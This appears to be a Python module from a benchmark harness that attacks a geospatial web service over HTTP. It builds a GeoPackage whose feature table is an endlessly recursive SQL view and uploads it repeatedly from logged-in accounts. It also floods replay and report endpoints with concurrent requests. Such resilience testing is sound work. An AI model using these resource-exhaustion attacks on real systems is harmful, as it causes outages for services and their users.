"""Attacks through HTTP."""

import asyncio
import itertools
import sqlite3
import struct
import tempfile
import time
from pathlib import Path

import aiohttp

from bench.attacks.doors import Attacker
from bench.attacks.prepare import BOX, SHIPS

REPLAYS, REPORTS, UPLOADERS = 8, 12, 2
ANSWERED = 20
SPAN_US = 240_000_000
REQUEST_S = 130.0
# A point in the format of GeoPackage: its header, without a box, in EPSG 4326, and well-known binary.
POINT = b"GP\x00\x01" + struct.pack("<i", 4326) + struct.pack("<BIdd", 1, 1, 5.0, 5.0)
GEOPACKAGE = f"""
PRAGMA application_id = 1196444487;
PRAGMA user_version = 10300;
CREATE TABLE gpkg_spatial_ref_sys (srs_name TEXT, srs_id INTEGER PRIMARY KEY, organization TEXT,
  organization_coordsys_id INTEGER, definition TEXT, description TEXT);
INSERT INTO gpkg_spatial_ref_sys VALUES ('WGS 84', 4326, 'EPSG', 4326,
  'GEOGCS["WGS 84",DATUM["WGS_1984",SPHEROID["WGS 84",6378137,298.257223563]],PRIMEM["Greenwich",0],'
  || 'UNIT["degree",0.0174532925199433]]', '');
CREATE TABLE gpkg_contents (table_name TEXT PRIMARY KEY, data_type TEXT, identifier TEXT, description TEXT,
  last_change TEXT, min_x DOUBLE, min_y DOUBLE, max_x DOUBLE, max_y DOUBLE, srs_id INTEGER);
INSERT INTO gpkg_contents VALUES ('endless', 'features', 'endless', '', '2026-01-01T00:00:00Z', 0, 0, 9, 9, 4326);
CREATE TABLE gpkg_geometry_columns (table_name TEXT, column_name TEXT, geometry_type_name TEXT, srs_id INTEGER,
  z TINYINT, m TINYINT);
INSERT INTO gpkg_geometry_columns VALUES ('endless', 'geom', 'POINT', 4326, 0, 0);
CREATE VIEW endless AS WITH RECURSIVE n(fid) AS (SELECT 1 UNION ALL SELECT fid + 1 FROM n)
  SELECT fid, X'{POINT.hex()}' AS geom FROM n;
"""


def endless_geopackage() -> bytes:
    """Return a small file whose table of features never ends."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "endless.gpkg"
        database = sqlite3.connect(path)
        database.executescript(GEOPACKAGE)
        database.close()
        return path.read_bytes()


async def replays(attacker: Attacker) -> None:
    """Replay the answers of many queries in eight sessions of one user."""
    queries: list[int] = []
    async with attacker.socket() as socket:
        for number in range(ANSWERED):
            box = {"lo": BOX["lo"], "hi": [BOX["hi"][0], BOX["hi"][1] - number / 10]}
            if made := await attacker.register(socket, {"stream": SHIPS, "compare": box}):
                queries.append(made)

    async def session(number, program):
        begins_us = ends_us = 0
        while True:
            if begins_us >= ends_us:
                ends_us = time.time_ns() // 1_000
                begins_us = ends_us - SPAN_US
            span = {"from_us": begins_us, "to_us": min(begins_us + 20_000_000, ends_us), "end_us": ends_us}
            asked = {"queries": ",".join(map(str, queries)), "session": f"s{number}", **span}
            await _get(attacker, program, "/replay/answers", asked)
            begins_us += 20_000_000

    await _at_once(attacker, session, REPLAYS)


async def reports(attacker: Attacker) -> None:
    """Ask for twelve reports at once, about everywhere."""

    async def reporter(number, program):
        kinds = itertools.cycle(("objects", "visits", "days", "stops"))
        for kind in kinds:
            span = {"from": time.time() - SPAN_US / 1e6, "to": time.time()}
            await _get(attacker, program, f"/reports/{SHIPS}", {"report": kind, "gap_s": 60 + number, **span})

    await _at_once(attacker, reporter, REPORTS)


async def _at_once(attacker, one, count):
    async def again(number, program):
        while True:
            await attacker.bounded(one(number, program))
            await asyncio.sleep(1.0)

    async with attacker.program() as program, asyncio.TaskGroup() as group:
        for number in range(count):
            group.create_task(again(number, program))


async def _get(attacker, program, path, parameters):
    attacker.tally["sent"] += 1
    asked = {name: str(value) for name, value in parameters.items()}
    async with program.get(path, params=asked, timeout=aiohttp.ClientTimeout(REQUEST_S)) as response:
        await response.read()
    attacker.tally[f"status {response.status}"] += 1
    if response.status >= 400:
        await asyncio.sleep(0.2)


async def uploads(attacker: Attacker) -> None:
    """Import endless files, of two accounts, one after the other."""
    content = endless_geopackage()

    async def uploader(account):
        jar = aiohttp.CookieJar(unsafe=True)
        async with aiohttp.ClientSession(attacker.base_url, cookie_jar=jar) as page:
            async with page.get(attacker.accounts[account]["login"]) as response:
                await response.read()
            for number in itertools.count():
                await _upload(attacker, page, f"endless-{account}-{number}", content)

    async with asyncio.TaskGroup() as group:
        for account in range(UPLOADERS):
            group.create_task(attacker.bounded(uploader(account)))


async def _upload(attacker, page, name, content):
    token = next((cookie.value for cookie in page.cookie_jar if cookie.key.startswith("lookout_csrf")), "")
    form = aiohttp.FormData({"name": name})
    form.add_field("file", content, filename="endless.gpkg")
    attacker.tally["sent"] += 1
    headers = {"X-CSRFToken": token, "Referer": attacker.base_url}
    async with page.post("/layers/", data=form, headers=headers, timeout=aiohttp.ClientTimeout(REQUEST_S)) as response:
        await response.read()
    attacker.tally[f"status {response.status}"] += 1
    await asyncio.sleep(1.0)
